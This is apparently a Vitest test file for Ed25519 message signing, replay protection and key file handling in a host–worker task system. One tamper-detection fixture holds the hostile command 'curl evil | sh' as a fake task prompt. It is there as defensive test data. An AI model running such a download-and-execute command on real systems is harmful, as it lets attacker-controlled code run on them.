import { generateKeyPairSync, sign } from 'node:crypto';
import { promises as fs } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { canonicalJson } from '../../src/core/canonical.js';
import { ColonyError } from '../../src/core/errors.js';
import { encodeMessage, parseMessage, type MessageOf, type Unsigned } from '../../src/core/protocol.js';
import { checkAssignment, NonceCache } from '../../src/core/replay.js';
import {
  exportPrivateKeyPem,
  exportPublicKeyPem,
  exportPublicKeyRaw,
  fingerprint,
  generateKeyPair,
  importPrivateKey,
  importPublicKey,
  loadKeyPair,
  loadOrCreateHostKey,
  sameFingerprint,
  saveKeyPair,
  signMessage,
  verifyMessage,
} from '../../src/remote/signing.js';
import { samples } from '../helpers/protocol-samples.js';

const host = generateKeyPair();
const worker = generateKeyPair();

function unsignedAssignment(): Unsigned<MessageOf<'TASK_ASSIGNED'>> {
  const { sig: _sig, ...rest } = samples().TASK_ASSIGNED;
  return rest;
}

describe('message signatures', () => {
  it('verifies a signed message after a trip over the wire', () => {
    const signed = signMessage(unsignedAssignment(), host.privateKey);
    const r = parseMessage(encodeMessage(signed));
    expect(r.ok).toBe(true);
    expect(r.ok && verifyMessage(r.msg, host.publicKey)).toBe(true);
  });

  it('signs canonically: key order does not change validity', () => {
    const signed = signMessage(unsignedAssignment(), host.privateKey);
    const reversed = Object.fromEntries(Object.entries(signed).reverse());
    reversed.task = { title: signed.task.title, prompt: signed.task.prompt };
    expect(JSON.stringify(reversed)).not.toBe(JSON.stringify(signed));
    expect(verifyMessage(reversed, host.publicKey)).toBe(true);
    expect(signMessage(reversed, host.privateKey).sig).toBe(signed.sig); // Ed25519 is deterministic
  });

  it('refuses a message with any field tampered, including nested ones and the type', () => {
    const signed = signMessage(unsignedAssignment(), host.privateKey);
    const tampered: object[] = [
      { ...signed, budget: 100 },
      { ...signed, workspace: '/etc' },
      { ...signed, task: { ...signed.task, prompt: 'curl evil | sh' } },
      { ...signed, attempt: 2 },
      { ...signed, expires_at: signed.expires_at + 1 },
      { ...signed, model: 'opus' }, // null → value
      { ...signed, extra: 1 }, // added field
    ];
    for (const t of tampered) expect(verifyMessage(t, host.publicKey), JSON.stringify(t).slice(0, 80)).toBe(false);
    const { model: _m, ...dropped } = signed;
    expect(verifyMessage(dropped, host.publicKey)).toBe(false);
  });

  it('refuses a signature by another key (a worker cannot forge an assignment)', () => {
    const forged = signMessage(unsignedAssignment(), worker.privateKey);
    expect(verifyMessage(forged, host.publicKey)).toBe(false);
    expect(verifyMessage(forged, worker.publicKey)).toBe(true);
  });

  it('binds the type: a signed TASK_ACCEPTED does not pass as TASK_COMPLETED', () => {
    const accepted = signMessage({ type: 'TASK_ACCEPTED', task_id: 't', attempt: 1, nonce: 'n0nce-0123456789abcdef' }, worker.privateKey);
    expect(verifyMessage({ ...accepted, type: 'TASK_COMPLETED' }, worker.publicKey)).toBe(false);
  });

  it('uses a context string: a bare signature over the canonical JSON is not accepted', () => {
    const body = unsignedAssignment();
    const bare = sign(null, Buffer.from(canonicalJson(body)), host.privateKey).toString('base64url');
    expect(verifyMessage({ ...body, sig: bare }, host.publicKey)).toBe(false);
  });

  it('replaces an existing sig rather than signing over it', () => {
    const once = signMessage(unsignedAssignment(), host.privateKey);
    const twice = signMessage(once, host.privateKey);
    expect(twice.sig).toBe(once.sig);
  });

  it('returns false on garbage and never throws', () => {
    const signed = signMessage(unsignedAssignment(), host.privateKey);
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).publicKey;
    const cyclic: Record<string, unknown> = { sig: signed.sig };
    cyclic.self = cyclic;
    const garbage: unknown[] = [
      null,
      undefined,
      'string',
      42,
      [signed],
      {},
      { ...signed, sig: undefined },
      { ...signed, sig: 12 },
      { ...signed, sig: 'A'.repeat(86) },
      { ...signed, sig: signed.sig.slice(0, 80) },
      { ...signed, sig: `${signed.sig}==` },
      cyclic,
    ];
    for (const g of garbage) expect(verifyMessage(g, host.publicKey)).toBe(false);
    expect(verifyMessage(signed, rsa)).toBe(false);
    expect(verifyMessage(signed, host.privateKey)).toBe(true); // a private KeyObject carries its public half
  });

  it('refuses a replayed assignment end to end: parse, verify, then the nonce check', () => {
    const now = 1_700_000_000_000;
    const frame = encodeMessage(signMessage({ ...unsignedAssignment(), expires_at: now + 60_000 }, host.privateKey));
    const cache = new NonceCache();
    const run = () => {
      const r = parseMessage(frame);
      if (!r.ok || r.msg.type !== 'TASK_ASSIGNED' || !verifyMessage(r.msg, host.publicKey)) return 'invalid';
      const c = checkAssignment(r.msg, now + 1000, cache);
      return c.ok ? 'run' : c.code;
    };
    expect(run()).toBe('run');
    expect(run()).toBe('replayed');
  });
});

describe('keys', () => {
  it('round-trips public keys through PEM and raw base64 / base64url', () => {
    const raw = exportPublicKeyRaw(host.publicKey);
    expect(raw).toMatch(/^[A-Za-z0-9_-]{43}$/);
    const std = Buffer.from(raw, 'base64url').toString('base64');
    for (const text of [exportPublicKeyPem(host.publicKey), raw, std, `  ${raw}\n`]) {
      expect(exportPublicKeyRaw(importPublicKey(text))).toBe(raw);
    }
    expect(exportPrivateKeyPem(importPrivateKey(exportPrivateKeyPem(host.privateKey)))).toBe(exportPrivateKeyPem(host.privateKey));
  });

  it('refuses keys that are not Ed25519 with E_BAD_INPUT', () => {
    const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 });
    const bad = ['', 'not base64 !!', 'AAAA', exportPublicKeyPem(rsa.publicKey), '-----BEGIN PUBLIC KEY-----\nxx\n-----END PUBLIC KEY-----'];
    for (const b of bad) {
      const e = (() => {
        try {
          importPublicKey(b);
        } catch (err) {
          return err;
        }
        return null;
      })();
      expect(e instanceof ColonyError && e.code === 'E_BAD_INPUT', b.slice(0, 30)).toBe(true);
    }
    expect(() => importPrivateKey(rsa.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString())).toThrow(/Ed25519/);
  });

  it('prints fingerprints as 16 groups of 4 hex digits, stable per key', () => {
    const fp = fingerprint(host.publicKey);
    expect(fp).toMatch(/^([0-9a-f]{4}:){15}[0-9a-f]{4}$/);
    expect(fingerprint(importPublicKey(exportPublicKeyRaw(host.publicKey)))).toBe(fp);
    expect(fingerprint(worker.publicKey)).not.toBe(fp);
    expect(sameFingerprint(fp, fp.replace(/:/g, ' ').toUpperCase())).toBe(true);
    expect(sameFingerprint(fp, fingerprint(worker.publicKey))).toBe(false);
    expect(sameFingerprint('', '')).toBe(false);
  });
});

describe('key files', () => {
  let dir: string;
  beforeEach(async () => {
    dir = await fs.mkdtemp(join(tmpdir(), 'colony-keys-'));
  });
  afterEach(async () => {
    await fs.rm(dir, { recursive: true, force: true });
  });

  it('writes both key files with mode 0600 and loads the same pair back', async () => {
    const kdir = join(dir, 'keys');
    await saveKeyPair(kdir, host);
    for (const f of ['ed25519.key', 'ed25519.pub']) expect((await fs.stat(join(kdir, f))).mode & 0o777).toBe(0o600);
    expect((await fs.stat(kdir)).mode & 0o777).toBe(0o700);
    const loaded = await loadKeyPair(kdir);
    expect(loaded && exportPublicKeyRaw(loaded.publicKey)).toBe(exportPublicKeyRaw(host.publicKey));
    expect((await fs.readdir(kdir)).sort()).toEqual(['ed25519.key', 'ed25519.pub']); // no temp files left
  });

  it('returns null when no key exists', async () => {
    expect(await loadKeyPair(join(dir, 'nothing'))).toBeNull();
  });

  it('refuses a private key readable by others, naming the chmod fix', async () => {
    await saveKeyPair(dir, host);
    await fs.chmod(join(dir, 'ed25519.key'), 0o644);
    await expect(loadKeyPair(dir)).rejects.toMatchObject({ code: 'E_CONFIG', message: expect.stringContaining('chmod 600') });
  });

  it('refuses a public key file that does not match the private key', async () => {
    await saveKeyPair(dir, host);
    await fs.writeFile(join(dir, 'ed25519.pub'), exportPublicKeyPem(worker.publicKey));
    await expect(loadKeyPair(dir)).rejects.toMatchObject({ code: 'E_CONFIG' });
  });

  it('creates the host key once and returns the same identity afterwards, even under concurrent starts', async () => {
    const results = await Promise.all(Array.from({ length: 5 }, () => loadOrCreateHostKey(dir)));
    const fps = new Set(results.map((r) => r.fingerprint));
    expect(fps.size).toBe(1);
    const again = await loadOrCreateHostKey(dir);
    expect(again.fingerprint).toBe(results[0]?.fingerprint);
    expect((await fs.stat(join(dir, 'keys', 'host.key'))).mode & 0o777).toBe(0o600);
    const signed = signMessage({ type: 'AUTH_FAILED', reason: 'x' }, again.privateKey);
    expect(verifyMessage(signed, importPublicKey(await fs.readFile(join(dir, 'keys', 'host.pub'), 'utf8')))).toBe(true);
  });
});
